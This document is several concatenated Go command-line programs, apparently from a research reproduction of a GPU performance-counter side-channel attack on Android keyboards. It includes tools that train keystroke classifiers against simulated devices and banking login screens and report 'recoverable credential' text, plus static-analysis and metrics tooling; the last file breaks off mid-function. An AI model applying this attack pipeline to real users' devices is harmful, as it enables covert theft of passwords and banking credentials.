	if stream.StatusCode != http.StatusOK {
		body, _ := io.ReadAll(io.LimitReader(stream.Body, 4096))
		return false, fmt.Errorf("backend stream: status %d: %s", stream.StatusCode, bytes.TrimSpace(body))
	}

	if !*started {
		*started = true
		h := w.Header()
		h.Set("Content-Type", "text/event-stream")
		h.Set("Cache-Control", "no-store")
		h.Set(backendHeader, owner)
		w.WriteHeader(http.StatusOK)
		// Comment frames are never relayed from the backend, so the router
		// announces the trace context itself — same ordering as a replica:
		// traceparent comment first, then the open frame.
		if sess.traceparent != "" {
			fmt.Fprintf(w, ": traceparent %s\n\n", sess.traceparent)
		}
		// The router speaks the open frame itself (the backend's carries
		// its local session id); every later frame is relayed verbatim.
		data, _ := json.Marshal(serve.SessionResponse{Schema: routerSchema, ID: sess.id})
		fmt.Fprintf(w, "id: 1\nevent: open\ndata: %s\n\n", data)
		if flusher != nil {
			flusher.Flush()
		}
	}

	sc := bufio.NewScanner(stream.Body)
	sc.Buffer(make([]byte, 0, 64*1024), 1024*1024)
	var frame bytes.Buffer
	frameID, frameEvent := 0, ""
	for sc.Scan() {
		line := sc.Text()
		if line != "" {
			frame.WriteString(line)
			frame.WriteByte('\n')
			switch {
			case strings.HasPrefix(line, "id: "):
				frameID, _ = strconv.Atoi(strings.TrimPrefix(line, "id: "))
			case strings.HasPrefix(line, "event: "):
				frameEvent = strings.TrimPrefix(line, "event: ")
			}
			continue
		}
		// Blank line: the frame is complete. The backend numbers frames
		// from 1 (its open frame); the client already holds everything up
		// to backend id sess.relayed+1.
		relay := frameEvent != "open" && frameID > sess.relayed+1
		if relay {
			frame.WriteByte('\n')
			if _, err := w.Write(frame.Bytes()); err != nil {
				// The downstream client went away; nothing to fail over to.
				return true, nil
			}
			if flusher != nil {
				flusher.Flush()
			}
			sess.relayed = frameID - 1
			rt.m.Add(mFrames, 1)
		}
		finished := frameEvent == "result" || frameEvent == "error"
		frame.Reset()
		frameID, frameEvent = 0, ""
		if finished {
			return true, nil
		}
	}
	if err := sc.Err(); err != nil {
		return false, err
	}
	return false, errors.New("backend stream ended without a result frame")
}
