// Command traceview is the defender's forensic lens: it loads a raw
// counter trace (CSV, as written by attackd -trace) and optionally a
// classifier model, prints the timeline of counter changes with their
// classifications, and reports what an attacker holding that model could
// have recovered. Use it to inspect what a given UI interaction leaks.
package main

import (
	"flag"
	"fmt"
	"log"
	"os"

	"gpuleak/internal/attack"

	"gpuleak/internal/trace"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("traceview: ")

	tracePath := flag.String("trace", "", "counter trace CSV (required)")
	modelPath := flag.String("model", "", "classifier model JSON (optional: adds classifications)")
	deltasOnly := flag.Bool("deltas", false, "print only changes, not every sample")
	offline := flag.Bool("offline", false, "use whole-trace segmentation instead of the streaming engine")
	flag.Parse()

	if *tracePath == "" {
		flag.Usage()
		os.Exit(2)
	}
	tf, err := os.Open(*tracePath)
	if err != nil {
		log.Fatal(err)
	}
	tr, err := trace.ReadCSV(tf)
	tf.Close()
	if err != nil {
		log.Fatal(err)
	}
	if tr.Interval == 0 && tr.Len() > 1 {
		tr.Interval = tr.Samples[1].At - tr.Samples[0].At
	}
	fmt.Printf("trace: %d samples, %v span, interval %v\n",
		tr.Len(), tr.Samples[tr.Len()-1].At-tr.Samples[0].At, tr.Interval)

	var m *attack.Model
	if *modelPath != "" {
		mf, err := os.Open(*modelPath)
		if err != nil {
			log.Fatal(err)
		}
		m, err = attack.ReadModel(mf)
		mf.Close()
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("model: %s (%d keys, %d noise signatures)\n", m.Key, len(m.Keys), len(m.Noise))
	}

	ds := tr.Deltas()
	fmt.Printf("changes: %d\n\n", len(ds))
	if !*deltasOnly {
		fmt.Println("time        prims      pixels     classification")
		fmt.Println("----------  ---------  ---------  --------------")
	}
	for _, d := range ds {
		label := ""
		if m != nil {
			v := m.ClassifyDenoised(d.V)
			switch {
			case v.IsKey:
				label = fmt.Sprintf("KEY %q (d=%.2f)", v.R, v.Dist)
			case v.IsNoise:
				label = fmt.Sprintf("noise:%s", v.Noise)
			default:
				label = "unknown"
			}
		}
		fmt.Printf("%-10v  %9.0f  %9.0f  %s\n", d.At, d.V[0], d.V[3], label)
	}

	if m == nil {
		return
	}
	atk := attack.New(m)
	atk.Interval = tr.Interval
	var res *attack.Result
	if *offline {
		res, err = atk.EavesdropTraceOffline(tr)
	} else {
		res, err = atk.EavesdropTrace(tr)
	}
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("\nrecoverable credential: %q (%d keys)\n", res.Text, len(res.Keys))
	if res.EstimatedLength >= 0 {
		fmt.Printf("input length from echo redraws: %d\n", res.EstimatedLength)
	}
}
