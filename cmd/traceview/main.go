// Command traceview is the defender's forensic lens: it loads a raw
// counter trace (CSV, as written by attackd -trace) and optionally a
// classifier model, prints the timeline of counter changes with their
// classifications, and reports what an attacker holding that model could
// have recovered. Use it to inspect what a given UI interaction leaks.
//
// It also understands the telemetry streams written by attackd/collect/
// benchpaper -telemetry: pass -telemetry to overlay recorded engine
// verdicts on the delta listing (or, without -trace, to print a stream
// summary), and -telemetry-chrome to convert a JSONL stream into a
// Perfetto-loadable Chrome trace file.
package main

import (
	"flag"
	"fmt"
	"log"
	"os"
	"sort"

	"gpuleak/internal/attack"
	"gpuleak/internal/obs"
	"gpuleak/internal/sim"

	"gpuleak/internal/trace"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("traceview: ")

	tracePath := flag.String("trace", "", "counter trace CSV")
	modelPath := flag.String("model", "", "classifier model JSON (optional: adds classifications)")
	deltasOnly := flag.Bool("deltas", false, "print only changes, not every sample")
	offline := flag.Bool("offline", false, "use whole-trace segmentation instead of the streaming engine")
	telemetryPath := flag.String("telemetry", "", "telemetry JSONL stream (overlays recorded verdicts; without -trace, prints a summary)")
	telemetryChrome := flag.String("telemetry-chrome", "", "also convert the telemetry stream to a Chrome trace file at this path")
	flag.Parse()

	var telem []obs.Event
	if *telemetryPath != "" {
		tf, err := os.Open(*telemetryPath)
		if err != nil {
			log.Fatal(err)
		}
		telem, err = obs.ReadJSONL(tf)
		tf.Close()
		if err != nil {
			log.Fatalf("reading telemetry %s: %v", *telemetryPath, err)
		}
		if len(telem) == 0 {
			log.Fatalf("telemetry %s is empty", *telemetryPath)
		}
		if *telemetryChrome != "" {
			cf, err := os.Create(*telemetryChrome)
			if err != nil {
				log.Fatal(err)
			}
			if err := obs.WriteChromeTrace(cf, telem); err != nil {
				log.Fatal(err)
			}
			if err := cf.Close(); err != nil {
				log.Fatalf("writing %s: %v", *telemetryChrome, err)
			}
			fmt.Printf("wrote Chrome trace to %s\n", *telemetryChrome)
		}
	}

	if *tracePath == "" {
		if telem != nil {
			summarizeTelemetry(telem)
			return
		}
		flag.Usage()
		os.Exit(2)
	}
	tf, err := os.Open(*tracePath)
	if err != nil {
		log.Fatal(err)
	}
	tr, err := trace.ReadCSV(tf)
	tf.Close()
	if err != nil {
		log.Fatal(err)
	}
	if tr.Interval == 0 && tr.Len() > 1 {
		tr.Interval = tr.Samples[1].At - tr.Samples[0].At
	}
	fmt.Printf("trace: %d samples, %v span, interval %v\n",
		tr.Len(), tr.Samples[tr.Len()-1].At-tr.Samples[0].At, tr.Interval)

	var m *attack.Model
	if *modelPath != "" {
		mf, err := os.Open(*modelPath)
		if err != nil {
			log.Fatal(err)
		}
		m, err = attack.ReadModel(mf)
		mf.Close()
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("model: %s (%d keys, %d noise signatures)\n", m.Key, len(m.Keys), len(m.Noise))
	}

	// Recorded engine verdicts, indexed by timestamp, overlay the listing:
	// what the attack decided live, next to what this model says now.
	verdicts := map[sim.Time]string{}
	for _, e := range telem {
		if e.Name != "engine.verdict" {
			continue
		}
		s := ""
		for _, f := range e.Fields {
			switch f.Key {
			case "disp":
				s = f.Str + s
			case "rune":
				s += fmt.Sprintf(" %q", f.Str)
			}
		}
		verdicts[e.At] = s
	}

	ds := tr.Deltas()
	fmt.Printf("changes: %d\n\n", len(ds))
	if !*deltasOnly {
		fmt.Println("time        prims      pixels     classification")
		fmt.Println("----------  ---------  ---------  --------------")
	}
	for _, d := range ds {
		label := ""
		if m != nil {
			v := m.ClassifyDenoised(d.V)
			switch {
			case v.IsKey:
				label = fmt.Sprintf("KEY %q (d=%.2f)", v.R, v.Dist)
			case v.IsNoise:
				label = fmt.Sprintf("noise:%s", v.Noise)
			default:
				label = "unknown"
			}
		}
		if rec, ok := verdicts[d.At]; ok {
			label += fmt.Sprintf("  [recorded: %s]", rec)
		}
		fmt.Printf("%-10v  %9.0f  %9.0f  %s\n", d.At, d.V[0], d.V[3], label)
	}

	if m == nil {
		return
	}
	atk := attack.New(m)
	atk.Interval = tr.Interval
	var res *attack.Result
	if *offline {
		res, err = atk.EavesdropTraceOffline(tr)
	} else {
		res, err = atk.EavesdropTrace(tr)
	}
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("\nrecoverable credential: %q (%d keys)\n", res.Text, len(res.Keys))
	if res.EstimatedLength >= 0 {
		fmt.Printf("input length from echo redraws: %d\n", res.EstimatedLength)
	}
}

// summarizeTelemetry prints the stream's shape: span, tracks, and
// per-event-name counts in name order.
func summarizeTelemetry(evs []obs.Event) {
	var span sim.Time
	tracks := map[string]bool{}
	counts := map[string]int{}
	for _, e := range evs {
		if end := e.At + e.Dur; end > span {
			span = end
		}
		tracks[e.Track] = true
		counts[string(e.Name)]++
	}
	fmt.Printf("telemetry: %d events, %d tracks, %v span\n\n", len(evs), len(tracks), span)
	names := make([]string, 0, len(counts))
	for n := range counts {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		fmt.Printf("  %-28s %6d\n", n, counts[n])
	}
}
