// Command collect runs the attack's offline phase (§3.2/§6): it emulates
// every typable key on a simulated device of the requested configuration,
// trains the per-configuration classifier, and writes it as JSON — the
// artifact the attacking application preloads.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"os"
	"time"

	"gpuleak/internal/android"
	"gpuleak/internal/attack"
	"gpuleak/internal/channel"
	"gpuleak/internal/keyboard"
	"gpuleak/internal/obs"
	"gpuleak/internal/parallel"
	"gpuleak/internal/victim"

	// Channel implementations self-register from init.
	_ "gpuleak/internal/kgslchan"
	_ "gpuleak/internal/proccount"
)

// trainReport is the -json output: one machine-readable line of training
// cost and model shape for perf-trajectory tracking.
type trainReport struct {
	Schema      string  `json:"schema"`
	Device      string  `json:"device"`
	Keyboard    string  `json:"keyboard"`
	App         string  `json:"app"`
	Repeats     int     `json:"repeats"`
	Workers     int     `json:"workers"`
	Models      int     `json:"models"`
	Keys        int     `json:"keys"`
	Noise       int     `json:"noise"`
	Bytes       int64   `json:"bytes"`
	WallSeconds float64 `json:"wall_seconds"`
	Output      string  `json:"output"`
}

func main() {
	log.SetFlags(0)
	log.SetPrefix("collect: ")

	device := flag.String("device", "OnePlus 8 Pro", "victim device model")
	kb := flag.String("keyboard", "gboard", "on-screen keyboard (gboard, swift, sogou, pinyin, go, grammarly)")
	app := flag.String("app", "Chase", "target application for the login scene")
	repeats := flag.Int("repeats", 3, "presses per key during collection")
	workers := flag.Int("workers", 0, "collection worker pool size (1 = serial, 0 = one per CPU); the trained model is identical at any value")
	jsonOut := flag.Bool("json", false, "emit a machine-readable training report on stdout")
	out := flag.String("o", "", "output file (default: model-<device>-<keyboard>.json)")
	bundleAll := flag.Bool("bundle", false, "train every known device at this keyboard/app and write one bundle")
	chName := flag.String("channel", "", "side channel to collect through (default kgsl; see gpuleak.Channels)")
	var obsFlags obs.Flags
	obsFlags.Register(flag.CommandLine)
	flag.Parse()

	stopProfiles, err := obsFlags.StartProfiles()
	if err != nil {
		log.Fatal(err)
	}
	tracer := obsFlags.Tracer()
	if tracer != nil {
		parallel.ObserveWith(tracer.Metrics())
	}

	layout := keyboard.ByName(*kb)
	if layout == nil {
		log.Fatalf("unknown keyboard %q", *kb)
	}
	target, ok := android.AppByName(*app)
	if !ok {
		log.Fatalf("unknown app %q", *app)
	}
	ch, err := channel.Get(*chName)
	if err != nil {
		log.Fatal(err)
	}
	// Non-default channels tag the default output filename so models for
	// different channels never clobber each other.
	chTag := ""
	if t := channel.Canonical(ch.Name()); t != "" {
		chTag = "-" + t
	}
	copts := attack.CollectOptions{Repeats: *repeats, Workers: *workers, Channel: *chName}

	// finish writes the telemetry stream and profile dumps; both exit
	// paths call it after their model files are safely on disk.
	finish := func() {
		if tracer != nil {
			if err := obsFlags.Write(tracer); err != nil {
				log.Fatalf("writing telemetry: %v", err)
			}
			if !*jsonOut {
				log.Printf("wrote telemetry to %s (%d events)", obsFlags.Path, tracer.Len())
			}
		}
		if err := stopProfiles(); err != nil {
			log.Fatalf("writing profiles: %v", err)
		}
	}

	if *bundleAll {
		start := time.Now()
		// Per-device telemetry tracks are created in index order before
		// the fan-out so the merged stream is scheduling-independent.
		var devTracers []*obs.Tracer
		if tracer != nil {
			devTracers = make([]*obs.Tracer, len(android.Devices))
			for i := range devTracers {
				devTracers[i] = tracer.Child(fmt.Sprintf("device/%02d", i))
			}
		}
		// Per-device trainings are independent; they share the worker
		// budget with each training's internal per-key fan-out.
		models, err := parallel.Map(*workers, len(android.Devices), func(i int) (*attack.Model, error) {
			d := android.Devices[i]
			cfg := victim.Config{Device: d, Keyboard: layout, App: target, Seed: 1}
			if !*jsonOut {
				log.Printf("training %s ...", d.Name)
			}
			co := copts
			if devTracers != nil {
				co.Obs = devTracers[i]
			}
			m, err := attack.Collect(cfg, co)
			if err != nil {
				return nil, fmt.Errorf("%s: %w", d.Name, err)
			}
			return m, nil
		})
		if err != nil {
			log.Fatal(err)
		}
		path := *out
		if path == "" {
			path = fmt.Sprintf("bundle-%s%s.json", layout.Name, chTag)
		}
		f, err := os.Create(path)
		if err != nil {
			log.Fatal(err)
		}
		if err := attack.WriteBundle(f, models); err != nil {
			log.Fatalf("writing bundle: %v", err)
		}
		st, _ := f.Stat()
		if err := f.Close(); err != nil {
			log.Fatalf("writing %s: %v", path, err)
		}
		if *jsonOut {
			keys, noise := 0, 0
			for _, m := range models {
				keys += len(m.Keys)
				noise += len(m.Noise)
			}
			emitReport(trainReport{
				Schema: "gpuleak-collect/v1", Device: "all", Keyboard: layout.Name,
				App: target.Name, Repeats: *repeats, Workers: *workers,
				Models: len(models), Keys: keys, Noise: noise, Bytes: st.Size(),
				WallSeconds: time.Since(start).Seconds(), Output: path,
			})
		} else {
			log.Printf("wrote %s (%d models, %d bytes)", path, len(models), st.Size())
		}
		finish()
		return
	}

	dev, ok := android.DeviceByName(*device)
	if !ok {
		log.Fatalf("unknown device %q; known devices:\n%s", *device, deviceList())
	}

	cfg := victim.Config{Device: dev, Keyboard: layout, App: target, Seed: 1}
	if !*jsonOut {
		log.Printf("emulating all key presses on %s / %s / %s ...", dev.Name, layout.Name, target.Name)
	}
	start := time.Now()
	copts.Obs = tracer
	m, err := attack.Collect(cfg, copts)
	if err != nil {
		log.Fatalf("offline phase failed: %v", err)
	}
	wall := time.Since(start).Seconds()
	if !*jsonOut {
		log.Printf("trained: %d key centroids, %d noise signatures, Cth=%.2f",
			len(m.Keys), len(m.Noise), m.Cth)
	}

	path := *out
	if path == "" {
		path = fmt.Sprintf("model-%s-%s%s.json", sanitize(dev.Name), layout.Name, chTag)
	}
	f, err := os.Create(path)
	if err != nil {
		log.Fatal(err)
	}
	if err := m.WriteJSON(f); err != nil {
		log.Fatalf("writing model: %v", err)
	}
	st, _ := f.Stat()
	if err := f.Close(); err != nil {
		log.Fatalf("writing %s: %v", path, err)
	}
	if *jsonOut {
		emitReport(trainReport{
			Schema: "gpuleak-collect/v1", Device: dev.Name, Keyboard: layout.Name,
			App: target.Name, Repeats: *repeats, Workers: *workers,
			Models: 1, Keys: len(m.Keys), Noise: len(m.Noise), Bytes: st.Size(),
			WallSeconds: wall, Output: path,
		})
	} else {
		log.Printf("wrote %s (%d bytes)", path, st.Size())
	}
	finish()
}

func emitReport(r trainReport) {
	enc := json.NewEncoder(os.Stdout)
	enc.SetIndent("", "  ")
	if err := enc.Encode(r); err != nil {
		log.Fatal(err)
	}
}

func sanitize(s string) string {
	out := make([]rune, 0, len(s))
	for _, r := range s {
		if r == ' ' {
			r = '-'
		}
		out = append(out, r)
	}
	return string(out)
}

func deviceList() string {
	s := ""
	for _, d := range android.Devices {
		s += "  " + d.Name + "\n"
	}
	return s
}
