// Command collect runs the attack's offline phase (§3.2/§6): it emulates
// every typable key on a simulated device of the requested configuration,
// trains the per-configuration classifier, and writes it as JSON — the
// artifact the attacking application preloads.
package main

import (
	"flag"
	"fmt"
	"log"
	"os"

	"gpuleak/internal/android"
	"gpuleak/internal/attack"
	"gpuleak/internal/keyboard"
	"gpuleak/internal/victim"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("collect: ")

	device := flag.String("device", "OnePlus 8 Pro", "victim device model")
	kb := flag.String("keyboard", "gboard", "on-screen keyboard (gboard, swift, sogou, pinyin, go, grammarly)")
	app := flag.String("app", "Chase", "target application for the login scene")
	repeats := flag.Int("repeats", 3, "presses per key during collection")
	out := flag.String("o", "", "output file (default: model-<device>-<keyboard>.json)")
	bundleAll := flag.Bool("bundle", false, "train every known device at this keyboard/app and write one bundle")
	flag.Parse()

	layout := keyboard.ByName(*kb)
	if layout == nil {
		log.Fatalf("unknown keyboard %q", *kb)
	}
	target, ok := android.AppByName(*app)
	if !ok {
		log.Fatalf("unknown app %q", *app)
	}

	if *bundleAll {
		var models []*attack.Model
		for _, d := range android.Devices {
			cfg := victim.Config{Device: d, Keyboard: layout, App: target, Seed: 1}
			log.Printf("training %s ...", d.Name)
			m, err := attack.Collect(cfg, attack.CollectOptions{Repeats: *repeats})
			if err != nil {
				log.Fatalf("%s: %v", d.Name, err)
			}
			models = append(models, m)
		}
		path := *out
		if path == "" {
			path = fmt.Sprintf("bundle-%s.json", layout.Name)
		}
		f, err := os.Create(path)
		if err != nil {
			log.Fatal(err)
		}
		defer f.Close()
		if err := attack.WriteBundle(f, models); err != nil {
			log.Fatalf("writing bundle: %v", err)
		}
		st, _ := f.Stat()
		log.Printf("wrote %s (%d models, %d bytes)", path, len(models), st.Size())
		return
	}

	dev, ok := android.DeviceByName(*device)
	if !ok {
		log.Fatalf("unknown device %q; known devices:\n%s", *device, deviceList())
	}

	cfg := victim.Config{Device: dev, Keyboard: layout, App: target, Seed: 1}
	log.Printf("emulating all key presses on %s / %s / %s ...", dev.Name, layout.Name, target.Name)
	m, err := attack.Collect(cfg, attack.CollectOptions{Repeats: *repeats})
	if err != nil {
		log.Fatalf("offline phase failed: %v", err)
	}
	log.Printf("trained: %d key centroids, %d noise signatures, Cth=%.2f",
		len(m.Keys), len(m.Noise), m.Cth)

	path := *out
	if path == "" {
		path = fmt.Sprintf("model-%s-%s.json", sanitize(dev.Name), layout.Name)
	}
	f, err := os.Create(path)
	if err != nil {
		log.Fatal(err)
	}
	defer f.Close()
	if err := m.WriteJSON(f); err != nil {
		log.Fatalf("writing model: %v", err)
	}
	st, _ := f.Stat()
	log.Printf("wrote %s (%d bytes)", path, st.Size())
}

func sanitize(s string) string {
	out := make([]rune, 0, len(s))
	for _, r := range s {
		if r == ' ' {
			r = '-'
		}
		out = append(out, r)
	}
	return string(out)
}

func deviceList() string {
	s := ""
	for _, d := range android.Devices {
		s += "  " + d.Name + "\n"
	}
	return s
}
