// Command gpuvet runs the repository's static-analysis suite: stdlib-only
// checks enforcing the simulation and KGSL invariants the reproduction's
// fidelity depends on (deterministic sim.Time clocks, msm_kgsl.h counter
// constants, float-comparison hygiene, mutex discipline, and ioctl size
// consistency).
//
// Usage:
//
//	gpuvet [-tests] [-list] [packages]
//
// Packages default to ./... (the whole module). Findings print as
// file:line:col: [check] message and make the command exit nonzero.
// Suppress an intentional finding with a comment on or above the line:
//
//	//gpuvet:ignore simtime -- measuring attacker-side wall-clock cost
package main

import (
	"flag"
	"fmt"
	"os"

	"gpuleak/internal/analysis"
)

func main() {
	tests := flag.Bool("tests", false, "also analyze in-package _test.go files")
	list := flag.Bool("list", false, "list available checks and exit")
	flag.Usage = func() {
		fmt.Fprintf(os.Stderr, "usage: gpuvet [-tests] [-list] [packages]\n\n")
		fmt.Fprintf(os.Stderr, "Runs the repo's invariant checks; packages default to ./...\n")
		flag.PrintDefaults()
	}
	flag.Parse()

	analyzers := analysis.DefaultAnalyzers()
	if *list {
		for _, a := range analyzers {
			fmt.Printf("%-13s %s\n", a.Name, a.Doc)
		}
		return
	}

	patterns := flag.Args()
	if len(patterns) == 0 {
		patterns = []string{"./..."}
	}
	loader, err := analysis.NewLoader(".")
	if err != nil {
		fmt.Fprintln(os.Stderr, "gpuvet:", err)
		os.Exit(2)
	}
	loader.IncludeTests = *tests
	pkgs, err := loader.Load(patterns...)
	if err != nil {
		fmt.Fprintln(os.Stderr, "gpuvet:", err)
		os.Exit(2)
	}
	diags := analysis.Run(pkgs, analyzers)
	for _, d := range diags {
		fmt.Println(d)
	}
	if len(diags) > 0 {
		fmt.Fprintf(os.Stderr, "gpuvet: %d finding(s) in %d package(s)\n", len(diags), len(pkgs))
		os.Exit(1)
	}
}
