// Command gpuvet runs the repository's static-analysis suite: stdlib-only
// checks enforcing the invariants the reproduction's fidelity depends on
// (deterministic sim.Time clocks and map serialization, end-to-end
// context threading, msm_kgsl.h counter constants, float-comparison and
// mutex hygiene, ioctl size consistency, the typed error taxonomy, and
// the hot-path allocation budget).
//
// Usage:
//
//	gpuvet [-tests] [-list] [-sarif file] [-baseline file]
//	       [-write-baseline file] [-waivers file] [-hotalloc-budget file]
//	       [packages]
//
// Packages default to ./... (the whole module). Findings print as
// file:line:col: [check] message and make the command exit nonzero.
//
//   - -sarif also renders the findings as a SARIF 2.1.0 log for CI
//     upload and code-scanning consumers.
//   - -baseline only fails on findings absent from the committed
//     gpuvet-baseline.json; -write-baseline regenerates that file from
//     the current findings.
//   - -waivers checks the //gpuvet:ignore directive counts against the
//     committed gpuvet-waivers.json ledger, failing when waivers grow
//     (or shrink) without a matching ledger edit.
//   - -hotalloc-budget names the per-function allocation budget file;
//     it defaults to gpuvet-hotalloc.json at the module root and the
//     hotalloc analyzer is skipped when the file does not exist.
//
// Suppress an intentional finding with a comment on or above the line:
//
//	//gpuvet:ignore simtime -- measuring attacker-side wall-clock cost
//
// and record it in the waiver ledger.
package main

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"

	"gpuleak/internal/analysis"
)

func main() {
	tests := flag.Bool("tests", false, "also analyze in-package _test.go files")
	list := flag.Bool("list", false, "list available checks and exit")
	sarifPath := flag.String("sarif", "", "also write findings as SARIF 2.1.0 to this file")
	baselinePath := flag.String("baseline", "", "only fail on findings absent from this gpuvet-baseline.json")
	writeBaseline := flag.String("write-baseline", "", "write current findings as a fresh baseline file and exit 0")
	waiversPath := flag.String("waivers", "", "check //gpuvet:ignore counts against this gpuvet-waivers.json ledger")
	hotallocPath := flag.String("hotalloc-budget", "", "hot-path allocation budget file (default: gpuvet-hotalloc.json at the module root, skipped if absent)")
	flag.Usage = func() {
		fmt.Fprintf(os.Stderr, "usage: gpuvet [flags] [packages]\n\n")
		fmt.Fprintf(os.Stderr, "Runs the repo's invariant checks; packages default to ./...\n")
		flag.PrintDefaults()
	}
	flag.Parse()

	analyzers := analysis.DefaultAnalyzers()
	if *list {
		fmt.Printf("%-13s %-15s %-8s %s\n", "CHECK", "CATEGORY", "SEVERITY", "DOC")
		for _, a := range analyzers {
			fmt.Printf("%-13s %-15s %-8s %s\n", a.Name, a.Category, a.Severity, a.Doc)
		}
		return
	}

	patterns := flag.Args()
	if len(patterns) == 0 {
		patterns = []string{"./..."}
	}
	loader, err := analysis.NewLoader(".")
	if err != nil {
		fatal(err)
	}
	loader.IncludeTests = *tests

	cfg := &analysis.Config{ModuleRoot: loader.ModuleRoot}
	budgetFile := *hotallocPath
	if budgetFile == "" {
		candidate := filepath.Join(loader.ModuleRoot, "gpuvet-hotalloc.json")
		if _, err := os.Stat(candidate); err == nil {
			budgetFile = candidate
		}
	}
	if budgetFile != "" {
		cfg.HotAlloc, err = analysis.LoadHotAllocBudget(budgetFile)
		if err != nil {
			fatal(err)
		}
	}

	pkgs, err := loader.Load(patterns...)
	if err != nil {
		fatal(err)
	}
	diags := analysis.RunConfig(cfg, pkgs, analyzers)

	if *writeBaseline != "" {
		f, err := os.Create(*writeBaseline)
		if err != nil {
			fatal(err)
		}
		if err := analysis.WriteBaseline(f, loader.ModuleRoot, diags); err != nil {
			fatal(err)
		}
		if err := f.Close(); err != nil {
			fatal(err)
		}
		fmt.Fprintf(os.Stderr, "gpuvet: wrote %d finding(s) to baseline %s\n", len(diags), *writeBaseline)
		return
	}

	if *sarifPath != "" {
		f, err := os.Create(*sarifPath)
		if err != nil {
			fatal(err)
		}
		if err := analysis.WriteSARIF(f, loader.ModuleRoot, analyzers, diags); err != nil {
			fatal(err)
		}
		if err := f.Close(); err != nil {
			fatal(err)
		}
	}

	gating := diags
	if *baselinePath != "" {
		base, err := analysis.LoadBaseline(*baselinePath)
		if err != nil {
			fatal(err)
		}
		var absorbed []analysis.Diagnostic
		gating, absorbed = base.Filter(loader.ModuleRoot, diags)
		if len(absorbed) > 0 {
			fmt.Fprintf(os.Stderr, "gpuvet: %d baseline finding(s) absorbed by %s\n", len(absorbed), *baselinePath)
		}
	}
	for _, d := range gating {
		fmt.Println(d)
	}

	failed := len(gating) > 0
	if *waiversPath != "" {
		ledger, err := analysis.LoadWaiverLedger(*waiversPath)
		if err != nil {
			fatal(err)
		}
		counts, err := analysis.CountWaivers(loader.ModuleRoot)
		if err != nil {
			fatal(err)
		}
		for _, problem := range ledger.Check(counts) {
			fmt.Fprintf(os.Stderr, "gpuvet: waiver ledger: %s\n", problem)
			failed = true
		}
	}

	if failed {
		fmt.Fprintf(os.Stderr, "gpuvet: %d finding(s) in %d package(s)\n", len(gating), len(pkgs))
		os.Exit(1)
	}
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "gpuvet:", err)
	os.Exit(2)
}
