// Command gpuleakstat is the fleet ops console: it scrapes the router
// and every live replica's /metrics, merges the snapshots into one
// fleet view, and renders RED rollups (request rates, error rates,
// latency quantiles from the histogram bucket series), per-shard queue
// depths, session/failover counters, and the micro-batch occupancy
// distribution.
//
//	gpuleakstat -router http://127.0.0.1:8090            # one-shot table
//	gpuleakstat -router ... -watch 2s                    # live console
//	gpuleakstat -router ... -json -out report.json       # gpuleak-metrics/v1
//	gpuleakstat -router ... -json -check                 # CI gate: exit 1
//
// Replicas are discovered from the router's /healthz backend list (only
// backends the ring reports up are scraped — a deliberately killed
// replica in the failover smoke must not fail the scrape); -targets
// adds replicas the router does not know about.
//
// -check evaluates fleet health thresholds — per-endpoint error rate
// and p99 latency (simulated milliseconds; the serving stack is
// wall-clock-free) — and exits non-zero when any fails, which is how
// ci.sh gates the fleet smoke on observability instead of just liveness.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log"
	"net/http"
	"os"
	"sort"
	"strings"
	"text/tabwriter"
	"time"

	"gpuleak/internal/obs"
)

// endpoint maps one RED rollup onto the serving layer's metric
// vocabulary: the success counter, the per-endpoint error counter, and
// (for endpoints that record one) the latency histogram.
type endpoint struct {
	name    string
	success string
	errors  string
	latency string
}

// endpoints lists the RED rollups in render order.
var endpoints = []endpoint{
	{"eavesdrop", "serve.eavesdrops", "serve.errors.eavesdrop", "serve.latency_ms.eavesdrop"},
	{"stream", "serve.sessions.streamed", "serve.errors.stream", "serve.latency_ms.stream"},
	{"session", "serve.sessions.created", "serve.errors.session", ""},
	{"train", "serve.trains", "serve.errors.train", ""},
	{"experiment", "serve.experiments", "serve.errors.experiment", ""},
}

func main() {
	log.SetFlags(0)
	log.SetPrefix("gpuleakstat: ")

	router := flag.String("router", "", "router base URL; replicas are discovered from its /healthz")
	targets := flag.String("targets", "", "comma-separated replica base URLs scraped in addition to discovery")
	jsonOut := flag.Bool("json", false, "emit the gpuleak-metrics/v1 report instead of the table")
	watch := flag.Duration("watch", 0, "re-scrape and re-render at this interval (table mode)")
	check := flag.Bool("check", false, "evaluate fleet health thresholds; exit 1 when any fails")
	maxErrorRate := flag.Float64("max-error-rate", 0.05, "check: max per-endpoint error rate")
	maxP99 := flag.Float64("max-p99-ms", 60000, "check: max per-endpoint p99 latency (simulated ms)")
	out := flag.String("out", "", "write the JSON report here (default stdout)")
	timeout := flag.Duration("timeout", 5*time.Second, "per-scrape HTTP timeout")
	flag.Parse()

	var extra []string
	for _, t := range strings.Split(*targets, ",") {
		if t = strings.TrimSpace(t); t != "" {
			extra = append(extra, strings.TrimRight(t, "/"))
		}
	}
	if *router == "" && len(extra) == 0 {
		log.Fatal("nothing to scrape: give -router and/or -targets")
	}
	client := &http.Client{Timeout: *timeout}

	for {
		rep := scrapeFleet(client, *router, extra)
		evaluate(rep, *check, *maxErrorRate, *maxP99)
		if *jsonOut {
			if err := writeReport(rep, *out); err != nil {
				log.Fatal(err)
			}
		} else {
			renderTable(os.Stdout, rep)
		}
		if *watch <= 0 {
			if *check && !rep.Pass {
				for _, c := range rep.Checks {
					if !c.Pass {
						log.Printf("check failed: %s = %g (limit %g)", c.Name, c.Value, c.Limit)
					}
				}
				os.Exit(1)
			}
			return
		}
		time.Sleep(*watch)
	}
}

// scrapeFleet probes and scrapes every target — the router plus its
// live backends plus the explicit extras — and merges the snapshots.
func scrapeFleet(client *http.Client, router string, extra []string) *obs.MetricsReport {
	rep := &obs.MetricsReport{
		Schema: obs.MetricsSchema,
		Fleet:  map[string]float64{},
		RED:    map[string]obs.REDSummary{},
	}
	seen := map[string]bool{}
	add := func(url, role string) {
